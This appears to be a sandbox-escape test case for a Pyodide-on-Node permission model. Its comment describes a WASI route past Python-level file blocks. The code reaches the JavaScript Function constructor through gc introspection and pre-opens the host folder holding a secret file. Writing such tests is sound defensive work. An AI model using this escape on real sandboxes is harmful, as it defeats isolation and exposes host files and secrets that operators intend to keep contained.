# Route (gets past the Python-level blocks): Node's WASI implementation opens pre-opened host folders
# through libuv directly, a classic way around a JavaScript-level file-system check. The permission
# model must refuse WASI as a whole.
import os
import gc

core = next(obj for obj in gc.get_objects() if type(obj).__name__ == "module" and obj.__name__ == "_pyodide_core")
Function = core.to_js([]).constructor.constructor
make = Function(
    "dir",
    "const { WASI } = process.getBuiltinModule('wasi');"
    "return new WASI({ version: 'preview1', preopens: { '/host': dir } });",
)
wasi = make(os.path.dirname(SECRET_FILE))
print(f"ESCAPED: WASI pre-opened a host folder: {wasi}")
